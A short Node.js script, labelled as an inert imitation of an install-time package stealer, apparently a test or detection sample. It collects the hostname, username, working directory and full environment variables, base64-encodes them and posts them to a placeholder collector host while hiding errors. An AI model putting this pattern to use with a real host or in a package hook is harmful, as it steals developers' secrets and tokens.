/* eslint-disable */
// Inert imitation of a dependency-confusion / install-time env stealer: host facts and the whole
// environment, base64-encoded, posted to a collector (reserved .invalid host).
const os = require('os');
const https = require('https');

const data = JSON.stringify({
  hostname: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
});

const payload = Buffer.from(data).toString('base64');
const req = https.request({ hostname: 'collector.example.invalid', port: 443, path: '/c', method: 'POST', headers: { 'Content-Type': 'text/plain' } });
req.on('error', () => {});
req.write(payload);
req.end();
